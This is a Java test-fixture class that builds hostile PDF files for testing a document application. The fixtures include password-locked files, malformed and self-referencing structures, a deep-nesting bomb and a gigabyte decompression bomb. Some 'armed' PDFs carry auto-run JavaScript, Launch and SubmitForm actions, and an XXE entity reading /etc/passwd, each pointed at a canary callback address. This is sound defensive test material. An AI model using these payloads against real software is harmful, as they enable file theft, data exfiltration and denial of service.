package org.dossierwerk.application.testkit.hostile;

import static org.dossierwerk.application.testkit.hostile.PdfDraft.latin;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

/** PDF that locks, acts, calls, grows, loops or lies. */
final class Pdfs {

    private static final byte[] PADDING = HexFormat.of()
            .parseHex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a");

    private Pdfs() {}

    static byte[] plain() {
        return PdfDraft.ofOnePage("", "").written();
    }

    static byte[] pages(int count) {
        var draft = new PdfDraft();
        draft.add("<</Type/Catalog/Pages 2 0 R>>");
        draft.add("<</Type/Pages/Count " + count + "/MediaBox[0 0 595 842]/Kids[" + "3 0 R ".repeat(count) + "]>>");
        draft.add("<</Type/Page/Parent 2 0 R>>");
        return draft.written();
    }

    /** Exactly so long, and nothing wrong with it. */
    static byte[] ofSize(int bytes) {
        int more = bytes;
        for (byte[] file; ; more -= file.length - bytes) {
            var draft = PdfDraft.ofOnePage("", "");
            draft.add("", new byte[more]);
            file = draft.written();
            if (file.length == bytes) {
                return file;
            }
        }
    }

    /** Asks for a password, by the oldest of its means (PDF 1.4, revision 2). */
    static byte[] locked() {
        try {
            var password = Arrays.copyOf(latin("geheim"), 32);
            System.arraycopy(PADDING, 0, password, 6, 26);
            var id = new byte[16];
            var owner = arcfour(Arrays.copyOf(md5(password), 5), password);
            var permissions = ByteBuffer.allocate(4)
                    .order(ByteOrder.LITTLE_ENDIAN)
                    .putInt(-4)
                    .array();
            var user = arcfour(Arrays.copyOf(md5(password, owner, permissions, id), 5), PADDING);
            var draft = PdfDraft.ofOnePage("", "");
            int lock = draft.add("<</Filter/Standard/V 1/R 2/P -4/O<" + hex(owner) + ">/U<" + hex(user) + ">>>");
            var ids = "<" + hex(id) + ">";
            return draft.inTrailer("/Encrypt " + lock + " 0 R/ID[" + ids + ids + "]")
                    .written();
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static byte[] md5(byte[]... parts) throws GeneralSecurityException {
        var digest = MessageDigest.getInstance("MD5");
        for (var part : parts) {
            digest.update(part);
        }
        return digest.digest();
    }

    private static byte[] arcfour(byte[] key, byte[] text) throws GeneralSecurityException {
        var cipher = Cipher.getInstance("ARCFOUR");
        cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(key, "ARCFOUR"));
        return cipher.doFinal(text);
    }

    private static String hex(byte[] bytes) {
        return HexFormat.of().formatHex(bytes);
    }

    /** Saved three times over, as programs do that only add what changed. */
    static byte[] incremental() {
        var file = plain();
        for (int i = 0; i < 2; i++) {
            int start = new String(file, StandardCharsets.ISO_8859_1).lastIndexOf("xref\n0");
            var more = file.length
                    + " 4 0 obj\n<</Changed " + i + ">>\nendobj\nxref\n0 0\ntrailer\n<</Root 1 0 R/Size 5/Prev " + start
                    + ">>\nstartxref\n";
            var added = more.substring(more.indexOf(' ') + 1);
            file = joined(file, latin(added + (file.length + added.indexOf("xref\n0")) + "\n%%EOF\n"));
        }
        return file;
    }

    static byte[] cutOff() {
        var file = plain();
        return Arrays.copyOf(file, file.length / 2);
    }

    static byte[] followedBy(byte[] tail) {
        return joined(plain(), tail);
    }

    static byte[] withComment(String comment) {
        var file = PdfDraft.ofOnePage("", "");
        file.add("", latin(comment));
        return file.written();
    }

    /** With all that a PDF can do when it is opened or clicked, each towards that address. */
    static byte[] armed(URI home) {
        var url = "(" + home + "/CANARY)";
        var click = "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/%s>>>>";
        return armed(
                "/OpenAction<</S/JavaScript/JS(app.launchURL\\(\"" + home + "/CANARY\"\\))>>"
                        + "/AA<</WC<</S/JavaScript/JS(CANARY)>>>>/URI<</Base" + url + ">>"
                        + "/Names<</EmbeddedFiles<</Names[(CANARY.exe)<</F(CANARY.exe)>>]>>>>",
                "/AA<</O<</S/URI/URI" + url + ">>>>/Annots["
                        + click.formatted("Launch/F(\\\\\\\\127.0.0.1\\\\CANARY.exe)/NewWindow true")
                        + click.formatted("SubmitForm/F<</FS/URL/F" + url + ">>")
                        + click.formatted("GoToR/D[0/Fit]/F(\\\\\\\\127.0.0.1\\\\share\\\\CANARY.pdf)")
                        + click.formatted("URI/URI(file:///etc/CANARY)")
                        + click.formatted("ImportData/F" + url) + "]");
    }

    private static byte[] armed(String inCatalog, String inPage) {
        return PdfDraft.ofOnePage(inCatalog, inPage).written();
    }

    /** Its form is drawn by a program that reads files and calls home. */
    static byte[] dynamicForm(URI home) {
        return form(home, "");
    }

    /** The same, with the form drawn the old way as well. */
    static byte[] form(URI home) {
        return form(home, "5 0 R");
    }

    private static byte[] form(URI home, String fields) {
        var draft = PdfDraft.ofOnePage("/AcroForm<</XFA 4 0 R/Fields[" + fields + "]>>", "");
        draft.add(
                "",
                latin("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY CANARY SYSTEM \"file:///etc/passwd\"><!ENTITY % y SYSTEM \""
                        + home + "/CANARY\">%y;]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">&CANARY;</xdp:xdp>"));
        draft.add("<</FT/Tx/T(naam)/V(CANARY)/Type/Annot/Subtype/Widget/Rect[0 0 10 10]/P 3 0 R>>");
        return draft.written();
    }

    static byte[] ofTwoHundredMetres() {
        var draft = new PdfDraft();
        draft.add("<</Type/Catalog/Pages 2 0 R>>");
        draft.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
        draft.add("<</Type/Page/Parent 2 0 R/MediaBox[0 0 567000 567000]>>");
        return draft.written();
    }

    static byte[] pagesOfThemselves() {
        var draft = new PdfDraft();
        draft.add("<</Type/Catalog/Pages 2 0 R>>");
        draft.add("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>");
        return draft.written();
    }

    /** Its table of objects says that the one before it is itself. */
    static byte[] tableOfItself() {
        var plain = new String(plain(), StandardCharsets.ISO_8859_1);
        return latin(plain.replace("trailer\n<<", "trailer\n<</Prev " + plain.lastIndexOf("xref\n0")));
    }

    static byte[] nested() {
        return latin("%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/X " + "[".repeat(2_000_000) + ">> endobj\n%%EOF");
    }

    /** A stream of objects that unpacks to a gigabyte. */
    static byte[] objectBomb() {
        var packed = new ByteArrayOutputStream();
        try (var deflating = new DeflaterOutputStream(packed, new Deflater(9))) {
            var block = new byte[1024 * 1024];
            Arrays.fill(block, (byte) ' ');
            for (int i = 0; i < 1024; i++) {
                deflating.write(block);
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return joined(
                latin("%PDF-1.5\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
                        + "3 0 obj <</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length " + packed.size()
                        + ">> stream\n"),
                packed.toByteArray(),
                latin("\nendstream endobj\ntrailer <</Root 1 0 R/Size 4>>\n%%EOF"));
    }

    static byte[] joined(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (var part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
